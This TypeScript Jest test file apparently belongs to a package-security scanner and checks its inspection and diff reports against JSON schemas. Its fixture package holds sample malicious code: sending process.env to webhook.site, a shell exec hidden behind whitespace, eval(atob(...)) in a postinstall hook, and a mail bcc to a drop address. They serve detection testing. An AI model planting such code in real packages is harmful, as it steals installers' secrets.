import { readFileSync } from 'node:fs'
import { describe, expect, it } from '@jest/globals'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { capabilities } from '../../src/package/code/file-code.js'
import { buildInspection, unreadInspection } from '../../src/report/inspection.js'
import { buildPackageDiff } from '../../src/report/package-diff.js'
import { anAnalysedPackage } from '../builders/analysed-package.js'
import { anOffer, aServer, aTool } from '../builders/mcp-facts.js'
import { aBindingGyp, aPackage } from '../builders/package-facts.js'
import { aReport, aReportedFinding, aReportedGap } from '../builders/report.js'

const readSchema = (name: string) =>
  JSON.parse(readFileSync(new URL(`../../src/report/${name}.schema.json`, import.meta.url), 'utf8'))

function openSchemas() {
  const ajv = new Ajv2020({ strict: true, strictRequired: false, allErrors: true })
  ajv.addSchema(readSchema('report'), 'report.schema.json')
  const inspection = ajv.compile(readSchema('inspection'))
  return { inspection, diff: ajv.compile(readSchema('package-diff')) }
}

const { inspection, diff } = openSchemas()
const asked = { name: 'a', version: '1.0.0' }
const mail = "require('nodemailer').createTransport({}).sendMail({ to: 'me@shop.example', bcc: 'x@drop.example' })\n"
const place = { file: 'index.js', line: 1, column: 1 }
const aWholeServer = aServer({
  tools: [aTool({ title: 'Send', annotations: { readOnlyHint: false, title: 'Send' } })],
  prompts: [anOffer()],
  resources: [anOffer({ name: 'mail://inbox' })],
  instructions: { text: 'Mail.', at: place },
  unresolved: [{ what: 'file', reason: 'too large', at: place }],
})
const aBusyPackage = () =>
  anAnalysedPackage(
    {
      'index.js': `require('./hidden')\nfetch('https://webhook.site/abc', { body: JSON.stringify(process.env) })\n${mail}`,
      'hidden.js': `exports.a = 1;${' '.repeat(300)}require('child_process').exec('id' + process.env.HOME)\n`,
      'broken.js': 'let let = (\n',
      'binding.gyp': "{ 'targets': [{ 'target_name': 'a', 'sources': ['<!(echo a.c)'] }] }",
      'setup.js': 'eval(atob("YQ=="))\n',
    },
    { scripts: { postinstall: 'node setup.js' }, bin: { a: 'index.js' }, dependencies: { b: '1' } },
  )

describe('the JSON of inspect', () => {
  it.each([
    ['a busy', aBusyPackage],
    ['an empty', async () => aPackage({ bindingGyp: aBindingGyp() })],
    ['a server', async () => aPackage({ mcp: aWholeServer })],
  ])('is as its schema says for %s package', async (_, facts) => {
    const told = JSON.parse(JSON.stringify(buildInspection(asked, await facts(), [])))

    expect([inspection(told), inspection.errors]).toEqual([true, null])
  })

  it('names the package and says why where its content could not be read', () => {
    const gap = { code: 'tarball-invalid', fact: 'package', detail: 'bad gzip' } as const
    const told = unreadInspection(asked, [gap])

    expect([inspection(told), inspection.errors]).toEqual([true, null])
    expect(told).toEqual({ schemaVersion: 1, package: asked, gaps: [{ ...gap, matters: true }] })
  })

  it('holds places, hosts, variables and recipients, and of the package only what was asked for', async () => {
    const told = buildInspection({ ...asked, more: 'x' } as typeof asked, await aBusyPackage(), [])

    expect(told).toMatchObject({
      package: { name: 'a', version: '1.0.0' },
      code: { analysed: 3, unanalysed: 1 },
      hosts: [{ host: 'webhook.site', service: 'request-bin', file: 'index.js', line: 2 }],
      environment: [{ name: 'HOME', file: 'hidden.js', when: 'load' }],
      recipients: [
        { kind: 'recipient', value: 'me@shop.example' },
        { kind: 'recipient', value: 'x@drop.example' },
      ],
    })
    expect(Object.keys(told.package)).toEqual(['name', 'version', 'integrity'])
    expect(
      told.capabilities?.map(({ capability, file, line, when }) => `${when} ${capability} ${file}:${line}`),
    ).toEqual(expect.arrayContaining(['install eval setup.js:1', 'load network index.js:2', 'load shell hidden.js:1']))
    expect(told.unusual?.map(({ file }) => file)).toEqual(['broken.js', 'hidden.js'])
  })

  it('is refused with a key that the schema does not know, and knows each ability', async () => {
    const told = buildInspection(asked, await aBusyPackage(), [])
    const [first] = told.capabilities ?? []

    expect(inspection({ ...told, more: 1 })).toBe(false)
    expect(inspection({ ...told, capabilities: [{ ...first, more: 1 }] })).toBe(false)
    expect(readSchema('inspection').$defs.capability.properties.capability.enum).toEqual(capabilities)
  })
})

describe('the JSON of diff', () => {
  it('is as its schema says, with findings and gaps', async () => {
    const [before, after] = [await anAnalysedPackage({ 'index.js': 'exports.a = 1\n' }), await aBusyPackage()]
    const report = aReport({ verdict: 'flagged', findings: [aReportedFinding()], gaps: [aReportedGap()] })
    const server = aPackage({ mcp: aWholeServer })
    for (const [one, other] of [
      [before, after],
      [after, before],
      [server, before],
      [aPackage({ mcp: aServer({ tools: [aTool({ description: 'Other words.' })] }) }), server],
    ]) {
      const sides = [one, other].map((content) => ({ ...asked, ...(content && { content }) })) as [
        typeof asked,
        typeof asked,
      ]
      const told = JSON.parse(JSON.stringify(buildPackageDiff(...sides, report)))
      expect([diff(told), diff.errors]).toEqual([true, null])
    }
  })

  it('has no parts where one of the packages could not be read', () => {
    const told = buildPackageDiff({ ...asked, content: aPackage() }, asked, aReport())

    expect([diff(JSON.parse(JSON.stringify(told))), told.added]).toEqual([true, undefined])
  })
})
